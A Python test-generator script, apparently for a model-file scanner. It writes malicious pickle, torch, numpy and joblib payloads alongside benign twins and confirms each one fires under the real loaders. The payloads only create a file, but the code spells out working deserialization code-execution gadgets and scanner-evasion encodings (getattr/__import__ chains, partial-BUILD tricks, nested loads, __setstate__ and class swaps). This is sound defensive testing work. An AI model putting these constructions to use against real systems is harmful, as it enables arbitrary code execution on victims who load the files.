#!/usr/bin/env python3
"""Differential harness for `torch4j scan` (ScanDifferentialTest runs it with the reference Python).

Writes payload files into OUTDIR and OUTDIR/cases.json: for each file its family, whether it is a
`firing` payload or a `benign` twin, and the loader it is meant for. Every case is loaded by that real
loader (torch.load of PyTorch 1.13, pickle.load, numpy.load(allow_pickle=True), joblib.load) in a
forked child whose working directory is an empty sandbox: a payload "fires" when anything appears in
the sandbox. torch, numpy and joblib are imported once, before forking, so each case costs a fork.
Only firing cases that fired are kept (a gadget that does not work here is dropped, and said so on
stderr); a benign twin that fires is an error of this generator.

Usage: gen_scan_differential.py OUTDIR
"""
import collections
import io
import json
import os
import pickle
import shutil
import signal
import struct
import sys
import tarfile
import tempfile
import time
import zipfile

import joblib
import numpy
import torch

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)
CASES = []

# ---------------------------------------------------------------- a small pickle assembler


def nomemo(value, proto):
    """The opcodes that push `value`, without PROTO, FRAME, memo opcodes or STOP."""
    buf = io.BytesIO()
    p = pickle._Pickler(buf, protocol=proto)
    p.fast = True  # no memo: pieces can be concatenated
    p.dump(value)
    data = buf.getvalue()
    if data[:1] == b"\x80":
        data = data[2:]
    if data[:1] == b"\x95":
        data = data[9:]
    assert data[-1:] == b"."
    return data[:-1]


def head(proto):
    return bytes([0x80, proto]) if proto >= 2 else b""


def glob(module, name, proto):
    if proto >= 4:
        return nomemo(module, proto) + nomemo(name, proto) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module, name, args, proto):
    """module.name(*args) as GLOBAL/STACK_GLOBAL, the args tuple, REDUCE."""
    return glob(module, name, proto) + nomemo(tuple(args), proto) + b"R"


def wrap(body, proto):
    return head(proto) + body + b"."


# ---------------------------------------------------------------- gadgets: each creates something in the cwd

G = [
    ("os_system", "os", "system", ("touch m",)),
    ("posix_system", "posix", "system", ("touch m",)),
    ("subprocess_call", "subprocess", "call", (["touch", "m"],)),
    ("subprocess_check_call", "subprocess", "check_call", (["touch", "m"],)),
    ("subprocess_run", "subprocess", "run", (["touch", "m"],)),
    ("subprocess_getoutput", "subprocess", "getoutput", ("touch m",)),
    ("os_spawnlp", "os", "spawnlp", (os.P_WAIT, "touch", "touch", "m")),
    ("os_mkdir", "os", "mkdir", ("m",)),
    ("os_makedirs", "os", "makedirs", ("m/n",)),
    ("builtins_open", "builtins", "open", ("m", "w")),
    ("io_open", "io", "open", ("m", "w")),
    ("io_FileIO", "io", "FileIO", ("m", "w")),
    ("codecs_open", "codecs", "open", ("m", "w")),
    ("builtins_exec", "builtins", "exec", ("open('m','w')",)),
    ("builtins_eval", "builtins", "eval", ("open('m','w')",)),
    ("shutil_copyfile", "shutil", "copyfile", ("/etc/hostname", "m")),
    ("shutil_copy", "shutil", "copy", ("/etc/hostname", "m")),
    ("tempfile_mkdtemp", "tempfile", "mkdtemp", ("", "", ".")),
    ("tempfile_mkstemp", "tempfile", "mkstemp", ("", "", ".")),
    ("zipfile_ZipFile", "zipfile", "ZipFile", ("m", "w")),
    ("tarfile_open", "tarfile", "open", ("m", "w")),
    ("gzip_open", "gzip", "open", ("m", "wb")),
    ("bz2_open", "bz2", "open", ("m", "wb")),
    ("lzma_open", "lzma", "open", ("m", "wb")),
    ("shelve_open", "shelve", "open", ("m",)),
    ("dbm_open", "dbm", "open", ("m", "c")),
    ("logging_FileHandler", "logging", "FileHandler", ("m",)),
    ("cProfile_run", "cProfile", "run", ("open('m','w')",)),
    ("pty_spawn", "pty", "spawn", (["touch", "m"],)),
    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ("touch", "m")),
    ("pydoc_pipepager", "pydoc", "pipepager", ("x", "touch m")),
    ("numpy_memmap", "numpy", "memmap", ("m", numpy.uint8, "w+", 0, (1,))),
    ("numpy_lib_format_open_memmap", "numpy.lib.format", "open_memmap", ("m", "w+", numpy.uint8, (1,))),
    ("numpy_savetxt", "numpy", "savetxt", ("m", [1.0])),
    ("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", ("open('m','w')", {})),
    ("torch_save", "torch", "save", ({}, "m")),
    ("torch_serialization_save", "torch.serialization", "save", ({}, "m")),
    ("torch_from_file", "torch", "from_file", ("m", True, 1)),
    ("joblib_dump", "joblib", "dump", ({}, "m")),
    ("six_moves_builtins_exec", "six.moves.builtins", "exec", ("open('m','w')",)),
    ("future_moves_subprocess_call", "future.moves.subprocess", "call", (["touch", "m"],)),
    ("test_support_script_helper", "test.support.script_helper", "run_python_until_end", ("-c", "open('m','w')")),
    ("scipy_io_savemat", "scipy.io", "savemat", ("m", {})),
    ("sklearn_utils_joblib_dump", "sklearn.utils._joblib", "dump", ({}, "m")),
    ("distutils_file_util_write_file", "distutils.file_util", "write_file", ("m", [])),
    ("code_interact_runsource", "code", "InteractiveInterpreter", ()),  # needs a method call: used by getattr family only
]

# Benign callables the twins use in the same encodings: vetted, or at worst unknown, never dangerous.
BENIGN = [
    ("OrderedDict", "collections", "OrderedDict", ()),
    ("set", "builtins", "set", ([1, 2],)),
    ("complex", "builtins", "complex", (1.0, 2.0)),
    ("timedelta", "datetime", "timedelta", (1,)),
    ("max", "builtins", "max", (1, 2)),
    ("torch_Size", "torch", "Size", ([2, 3],)),
]

ENCODINGS = ["p0", "p1", "p2", "p3", "p4", "p5", "inst", "obj", "memo", "in_dict", "partial", "partial_build",
             "partial_kwargs_build"]


def encode(enc, module, name, args):
    """One call of module.name(*args), spelled as `enc`."""
    if enc.startswith("p") and enc[1:].isdigit():
        proto = int(enc[1:])
        return wrap(call(module, name, args, proto), proto)
    if enc == "inst":  # protocol 0: MARK args INST module name
        return b"(" + b"".join(nomemo(a, 0) for a in args) + b"i" + module.encode() + b"\n" + name.encode() + b"\n."
    if enc == "obj":  # protocol 1: MARK callable args OBJ
        return b"(" + glob(module, name, 1) + b"".join(nomemo(a, 1) for a in args) + b"o."
    if enc == "memo":  # the callable memoized, popped, fetched back
        return wrap(glob(module, name, 2) + b"q\x070" + b"h\x07" + nomemo(tuple(args), 2) + b"R", 2)
    if enc == "in_dict":  # deep inside a container
        return wrap(b"}" + nomemo("k", 2) + b"]" + call(module, name, args, 2) + b"a" + b"s", 2)
    if enc == "partial":  # functools.partial(f, *args)()
        return wrap(glob("functools", "partial", 2) + b"(" + glob(module, name, 2)
                    + b"".join(nomemo(a, 2) for a in args) + b"tR" + b")R", 2)
    if enc == "partial_build":  # partial(int) then BUILD swaps in (f, args, {}, None), then call it
        return wrap(glob("functools", "partial", 2) + glob("builtins", "int", 2) + b"\x85R"
                    + b"(" + glob(module, name, 2) + nomemo(tuple(args), 2) + b"}Nt" + b"b" + b")R", 2)
    if enc == "partial_kwargs_build":  # the arguments only as keyword arguments of the partial
        kw = {"args" if name in ("call", "check_call", "run") else "a": args[0]} if len(args) == 1 else None
        if kw is None or name not in ("call", "check_call", "run"):
            return None
        return wrap(glob("functools", "partial", 2) + glob("builtins", "int", 2) + b"\x85R"
                    + b"(" + glob(module, name, 2) + b")" + nomemo(kw, 2) + b"Nt" + b"b" + b")R", 2)
    raise ValueError(enc)


# ---------------------------------------------------------------- proving under the real loaders


def load_with(loader, path):
    if loader == "pickle":
        with open(path, "rb") as f:
            pickle.load(f)
    elif loader == "torch":
        torch.load(path)
    elif loader == "numpy":
        r = numpy.load(path, allow_pickle=True)
        if isinstance(r, numpy.lib.npyio.NpzFile):
            for k in r.files:
                r[k]
    elif loader == "joblib":
        joblib.load(path)
    elif loader == "jit":
        torch.jit.load(path)
    else:
        raise ValueError(loader)


PENDING = []


def child(loader, data_path, sandbox):
    """In the forked child: load the file from inside the sandbox, then exit without cleanup."""
    try:
        os.chdir(sandbox)
        tempfile.tempdir = sandbox
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, 1)
        os.dup2(devnull, 2)
        signal.alarm(20)
        try:
            load_with(loader, data_path)
        except BaseException:
            pass
    finally:
        os._exit(0)


def prove_all(parallel=8):
    """Loads every pending case in a forked child inside an empty sandbox, `parallel` at a time; a case
    fired when anything appeared in its sandbox."""
    running = {}
    queue = list(PENDING)
    while queue or running:
        while queue and len(running) < parallel:
            case = queue.pop(0)
            sandbox = tempfile.mkdtemp(prefix="fire-")
            pid = os.fork()
            if pid == 0:
                child(case["loader"], os.path.abspath(os.path.join(OUT, case["file"])), sandbox)
            running[pid] = (case, sandbox)
        pid, _ = os.wait()
        if pid not in running:
            continue  # a grandchild some gadget spawned and left behind
        case, sandbox = running.pop(pid)
        fired = bool(os.listdir(sandbox))
        shutil.rmtree(sandbox, ignore_errors=True)
        path = os.path.join(OUT, case["file"])
        if case["kind"] == "firing" and not fired:
            print("not firing here, dropped: " + case["file"], file=sys.stderr)
            os.remove(path)
            continue
        if case["kind"] == "benign" and fired:
            raise SystemExit("benign twin fired: " + case["file"])
        CASES.append(case)
    CASES.sort(key=lambda c: c["file"])


def add(name, family, kind, loader, data):
    if data is None:
        return
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    PENDING.append({"file": name, "family": family, "kind": kind, "loader": loader})


# ---------------------------------------------------------------- containers around one pickle


def torch_zip(inner_pickle, archive="archive"):
    """A torch.save zip whose data.pkl is `inner_pickle` (torch.load reads data.pkl first)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(archive + "/data.pkl", inner_pickle)
        z.writestr(archive + "/version", "3\n")
    return buf.getvalue()


MAGIC = 0x1950a86a20f9469cfc6c


def legacy(inner_pickle, magic_spelling="long1"):
    """Legacy torch.save: magic, protocol version, sys_info, the object, storage keys."""
    magic = {
        "long1": pickle.dumps(MAGIC, protocol=2),
        "text": b"L119547037146038801333356L\n.",
        "int_text": b"I119547037146038801333356\n.",
        "long4": b"\x80\x02\x8b" + struct.pack("<i", 10) + MAGIC.to_bytes(10, "little") + b".",
        "framed": pickle.dumps(MAGIC, protocol=4),
    }[magic_spelling]
    return (magic + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
            + inner_pickle + pickle.dumps([], protocol=2))


def legacy_tar(inner_pickle, v7=False):
    """The 0.1.x tar layout: storages (count 0, no views), tensors (count 0), pickle."""
    members = [("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
               ("tensors", pickle.dumps(0, protocol=2)), ("pickle", inner_pickle)]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in members:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    data = bytearray(buf.getvalue())
    if v7:  # no "ustar" magic: Python's tarfile still reads it by its checksum
        pos = 0
        while pos + 512 <= len(data) and any(data[pos:pos + 512]):
            h = data[pos:pos + 512]
            h[257:265] = b"\0" * 8
            h[148:156] = b" " * 8
            h[148:156] = ("%06o\0 " % sum(h)).encode()
            data[pos:pos + 512] = h
            size = int(h[124:136].strip(b"\0 ") or b"0", 8)
            pos += 512 + (size + 511) // 512 * 512
    return bytes(data)


def npy(inner_pickle, descr="'|O'"):
    header = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + inner_pickle


def npz(inner_npy, member="arr_0.npy"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(member, inner_npy)
    return buf.getvalue()


def joblib_compressed(inner_pickle, method):
    import zlib
    import gzip
    import bz2
    import lzma
    if method == "zlib":
        return zlib.compress(inner_pickle)
    if method == "gzip":
        return gzip.compress(inner_pickle)
    if method == "bz2":
        return bz2.compress(inner_pickle)
    return lzma.compress(inner_pickle, format=lzma.FORMAT_XZ)


CONTAINERS = [
    ("raw_torch", "torch", lambda p: p),
    ("zip", "torch", lambda p: torch_zip(p)),
    ("zip_odd_name", "torch", lambda p: torch_zip(p, "x y")),
    ("legacy", "torch", lambda p: legacy(p)),
    ("legacy_text_magic", "torch", lambda p: legacy(p, "text")),
    ("legacy_int_magic", "torch", lambda p: legacy(p, "int_text")),
    ("legacy_long4_magic", "torch", lambda p: legacy(p, "long4")),
    ("legacy_framed_magic", "torch", lambda p: legacy(p, "framed")),
    ("tar", "torch", lambda p: legacy_tar(p)),
    ("tar_v7", "torch", lambda p: legacy_tar(p, v7=True)),
    ("npy", "numpy", lambda p: npy(p)),
    ("npy_bare_O", "numpy", lambda p: npy(p, "'O'")),
    ("npy_structured", "numpy", lambda p: npy(p, "[('a', 'O')]")),
    ("npz", "numpy", lambda p: npz(npy(p))),
    ("npz_no_suffix", "numpy", lambda p: npz(npy(p), "weights")),
    ("joblib", "joblib", lambda p: p),
    ("joblib_zlib", "joblib", lambda p: joblib_compressed(p, "zlib")),
    ("joblib_gzip", "joblib", lambda p: joblib_compressed(p, "gzip")),
    ("joblib_bz2", "joblib", lambda p: joblib_compressed(p, "bz2")),
    ("joblib_xz", "joblib", lambda p: joblib_compressed(p, "xz")),
]


def main():
    # 1. encodings x gadgets, as raw pickles read by pickle.load
    for i, (label, module, name, args) in enumerate(G):
        if label == "code_interact_runsource":
            continue
        # every encoding for half the gadgets, the main spellings for the others (the run stays short)
        for enc in ENCODINGS if i % 2 == 0 else ["p0", "p2", "p4", "inst", "partial_build"]:
            try:
                data = encode(enc, module, name, args)
            except Exception as e:  # an argument protocol 0/1 cannot spell
                print("cannot encode %s %s: %s" % (label, enc, e), file=sys.stderr)
                continue
            add("f_%s_%s.pkl" % (label, enc), "encoding/" + enc, "firing", "pickle", data)
    for label, module, name, args in BENIGN:
        for enc in ENCODINGS:
            try:
                data = encode(enc, module, name, args)
            except Exception:
                continue
            add("b_%s_%s.pkl" % (label, enc), "encoding/" + enc, "benign", "pickle", data)

    # 2. containers x a few gadgets, read by the loader each container is for
    for cname, loader, make in CONTAINERS:
        for label, module, name, args in (G[0], G[2], G[9], G[32]):
            add("c_%s_%s.bin" % (cname, label), "container/" + cname, "firing", loader,
                make(wrap(call(module, name, args, 2), 2)))
        add("cb_%s_dict.bin" % cname, "container/" + cname, "benign", loader, make(pickle.dumps({"a": [1, 2]}, protocol=2)))
        add("cb_%s_odict.bin" % cname, "container/" + cname, "benign", loader,
            make(pickle.dumps(collections.OrderedDict(a=numpy.arange(3)), protocol=2)))

    # 3. dotted names and getattr paths reaching a gadget through a trusted module
    dotted = [("torch", "os.system"), ("torch.serialization", "os.system"), ("joblib", "numpy_pickle.os.system")]
    for i, (m, n) in enumerate(dotted):
        add("d_stack_global_%d.pkl" % i, "dotted", "firing", "pickle",
            wrap(glob(m, n, 4) + nomemo(("touch m",), 4) + b"R", 4))
    for i, (m, n) in enumerate([("os", "system"), ("subprocess", "getoutput"), ("posix", "system")]):
        body = (glob("builtins", "getattr", 2) + glob("builtins", "__import__", 2) + nomemo((m,), 2) + b"R"
                + nomemo(n, 2) + b"\x86R" + nomemo(("touch m",), 2) + b"R")
        add("d_getattr_import_%d.pkl" % i, "dotted", "firing", "pickle", wrap(body, 2))
    # getattr of a method of an instance of a vetted class: Path('m').touch()
    body = glob("builtins", "getattr", 2) + glob("pathlib", "Path", 2) + nomemo(("m",), 2) + b"R" + nomemo("touch", 2) + b"\x86R)R"
    add("d_getattr_path_touch.pkl", "dotted", "firing", "pickle", wrap(body, 2))
    body = glob("builtins", "getattr", 2) + glob("pathlib", "Path", 2) + nomemo(("m",), 2) + b"R" + nomemo("write_text", 2) + b"\x86R" + nomemo(("x",), 2) + b"R"
    add("d_getattr_path_write_text.pkl", "dotted", "firing", "pickle", wrap(body, 2))
    body = (glob("builtins", "getattr", 2) + glob("code", "InteractiveInterpreter", 2) + b")R" + nomemo("runsource", 2) + b"\x86R"
            + nomemo(("open('m','w')",), 2) + b"R")
    add("d_getattr_runsource.pkl", "dotted", "firing", "pickle", wrap(body, 2))
    body = glob("operator", "methodcaller", 2) + nomemo(("touch",), 2) + b"R" + b"(" + glob("pathlib", "Path", 2) + nomemo(("m",), 2) + b"Rt" + b"R"
    add("d_methodcaller_touch.pkl", "dotted", "firing", "pickle", wrap(body, 2))
    # benign look-alikes: referenced, never called
    add("db_partial_max.pkl", "dotted", "benign", "pickle", pickle.dumps({"f": __import__("functools").partial(max, 1)}, protocol=2))
    add("db_enum_member.pkl", "dotted", "benign", "pickle", pickle.dumps(__import__("http").HTTPStatus.OK, protocol=4))
    import pandas
    add("db_pandas_frame.pkl", "dotted", "benign", "pickle", pickle.dumps(pandas.DataFrame({"a": [1, 2], "b": ["x", "y"]}), protocol=4))
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(_EvalMethod()), buf)
    add("db_script_eval_method.pt", "dotted", "benign", "jit", buf.getvalue())
    add("db_getattr_torch_float.pkl", "dotted", "benign", "pickle",
        wrap(glob("builtins", "getattr", 2) + glob("torch", "float32", 2) + nomemo("is_floating_point", 2) + b"\x86R", 2))

    # 4. nested loaders: the payload is bytes a loader inside the pickle unpickles
    inner = wrap(call("os", "system", ("touch m",), 2), 2)
    inner_b = pickle.dumps({"ok": 1}, protocol=2)
    for proto in (2, 3, 4):
        for tag, payload, kind in (("f", inner, "firing"), ("b", inner_b, "benign")):
            add("n_%s_pickle_loads_p%d.pkl" % (tag, proto), "nested/pickle.loads", kind, "pickle",
                wrap(call("pickle", "loads", (payload,), proto), proto))
            add("n_%s_load_from_bytes_p%d.pkl" % (tag, proto), "nested/_load_from_bytes", kind, "pickle",
                wrap(call("torch.storage", "_load_from_bytes", (payload,), proto), proto))
    add("n_f_dill_loads.pkl", "nested/dill.loads", "firing", "pickle", wrap(call("dill", "loads", (inner,), 3), 3))
    add("n_f_double_nested.pkl", "nested/pickle.loads", "firing", "pickle",
        wrap(call("pickle", "loads", (wrap(call("pickle", "loads", (inner,), 2), 2),), 2), 2))
    add("n_f_torch_load_bytesio.pkl", "nested/torch.load", "firing", "pickle",
        wrap(glob("torch", "load", 2) + b"(" + call("io", "BytesIO", (inner,), 2) + b"tR", 2))
    add("n_f_joblib_load_bytesio.pkl", "nested/joblib.load", "firing", "pickle",
        wrap(glob("joblib", "load", 2) + b"(" + call("io", "BytesIO", (inner,), 2) + b"tR", 2))
    add("n_f_in_zip.pt", "nested/zip", "firing", "torch", torch_zip(wrap(call("torch.storage", "_load_from_bytes", (legacy(inner),), 2), 2)))
    add("n_b_tensor_plain.pkl", "nested/_load_from_bytes", "benign", "pickle", pickle.dumps({"t": torch.arange(4)}, protocol=2))

    # 5. BUILD and __setstate__ abuse
    wrapper = ("torch.utils.data.datapipes.datapipe", "_DataPipeSerializationWrapper")
    add("s_datapipe_wrapper_build.pkl", "build/datapipe", "firing", "pickle",
        wrap(glob(*wrapper, 2) + b")\x81" + nomemo((inner, False), 2) + b"b", 2))
    add("s_datapipe_wrapper_dill.pkl", "build/datapipe", "firing", "pickle",
        wrap(glob(*wrapper, 2) + b")\x81" + nomemo((__import__("dill").dumps(_Touch()), True), 2) + b"b", 2))
    # an instance attribute __setstate__: the next BUILD calls it
    for i, (m, n, arg) in enumerate([("os", "system", "touch m"), ("builtins", "exec", "open('m','w')"),
                                     ("subprocess", "getoutput", "touch m")]):
        body = (glob("argparse", "Namespace", 2) + b")\x81" + b"}" + nomemo("__setstate__", 2) + glob(m, n, 2) + b"s" + b"b"
                + nomemo(arg, 2) + b"b")
        add("s_instance_setstate_%d.pkl" % i, "build/setstate-attribute", "firing", "pickle", wrap(body, 2))
    # __class__ swapped by slot state, then the swapped class's __setstate__ unpickles bytes
    body = (glob("argparse", "Namespace", 2) + b")\x81" + b"N}" + nomemo("__class__", 2) + glob(*wrapper, 2) + b"s\x86b"
            + nomemo((inner, False), 2) + b"b")
    add("s_class_swap.pkl", "build/class-swap", "firing", "pickle", wrap(body, 2))
    # a vetted callable given a callable it calls: numpy's RandomState constructor
    add("s_randomstate_ctor_system.pkl", "build/callable-argument", "firing", "pickle",
        wrap(glob("numpy.random._pickle", "__randomstate_ctor", 2) + b"(" + nomemo("touch m", 2) + glob("os", "system", 2) + b"tR", 2))
    # a vetted rebuilder given a partial it calls
    add("s_partial_in_vetted_call.pkl", "build/callable-argument", "firing", "pickle",
        wrap(glob("torch._tensor", "_rebuild_from_type_v2", 2) + b"(" + glob("functools", "partial", 2)
             + b"(" + glob("os", "system", 2) + nomemo("touch m", 2) + b"tR" + glob("torch", "Tensor", 2)
             + b")" + b"}tR", 2))
    # benign twins: real numpy and torch objects
    add("sb_randomstate.pkl", "build/callable-argument", "benign", "pickle", pickle.dumps(numpy.random.RandomState(0), protocol=2))
    add("sb_generator.pkl", "build/callable-argument", "benign", "pickle", pickle.dumps(numpy.random.default_rng(0), protocol=4))
    add("sb_namespace.pkl", "build/setstate-attribute", "benign", "pickle", pickle.dumps(__import__("argparse").Namespace(lr=0.1), protocol=2))
    add("sb_parameter.pt", "build/class-swap", "benign", "torch", _torch_save({"w": torch.nn.Parameter(torch.ones(2))}))
    add("sb_state_dict.pt", "build/class-swap", "benign", "torch", _torch_save(torch.nn.Linear(2, 2).state_dict()))
    add("sb_state_dict_legacy.pt", "build/class-swap", "benign", "torch",
        _torch_save(torch.nn.Linear(2, 2).state_dict(), zip_format=False))
    add("sb_numpy_masked.pkl", "build/callable-argument", "benign", "pickle", pickle.dumps(numpy.ma.masked_array([1, 2], [0, 1]), protocol=2))
    add("sb_joblib_arrays.joblib", "container/joblib", "benign", "joblib", _joblib_dump({"a": numpy.arange(5.0)}))
    add("sb_joblib_arrays_zlib.joblib", "container/joblib_zlib", "benign", "joblib", _joblib_dump({"a": numpy.arange(5.0)}, 3))

    # 6. numpy objects that act: a real object array holding a gadget, as numpy.save writes it
    for label, module, name, args in (G[0], G[9], G[32]):
        arr = numpy.empty(1, dtype=object)
        arr[0] = _Reduce(module, name, args)
        buf = io.BytesIO()
        numpy.save(buf, arr, allow_pickle=True)
        add("x_numpy_save_%s.npy" % label, "container/npy", "firing", "numpy", buf.getvalue())
        add("x_joblib_dump_%s.joblib" % label, "container/joblib", "firing", "joblib", _joblib_dump({"a": _Reduce(module, name, args)}))

    prove_all()
    with open(os.path.join(OUT, "cases.json"), "w") as f:
        json.dump(CASES, f, indent=1)
    firing = sum(1 for c in CASES if c["kind"] == "firing")
    print("%d firing, %d benign" % (firing, len(CASES) - firing))


class _EvalMethod(torch.nn.Module):
    """A TorchScript module that defines (and calls) a method named eval: not the builtin."""

    @torch.jit.export
    def eval(self):
        return self

    def forward(self, x):
        self.eval()
        return x + 1


class _Reduce:
    def __init__(self, module, name, args):
        self.module, self.name, self.args = module, name, args

    def __reduce__(self):
        return (_resolve(self.module, self.name), self.args)


class _Touch:
    """dill pickles this class by value: unpickling it runs its __reduce__ target."""

    def __reduce__(self):
        return (os.system, ("touch m",))


def _resolve(module, name):
    mod = __import__(module, fromlist=[name])
    return getattr(mod, name)


def _torch_save(obj, zip_format=True):
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=zip_format)
    return buf.getvalue()


def _joblib_dump(obj, compress=0):
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "x.joblib")
        joblib.dump(obj, p, compress=compress)
        with open(p, "rb") as f:
            return f.read()


if __name__ == "__main__":
    main()
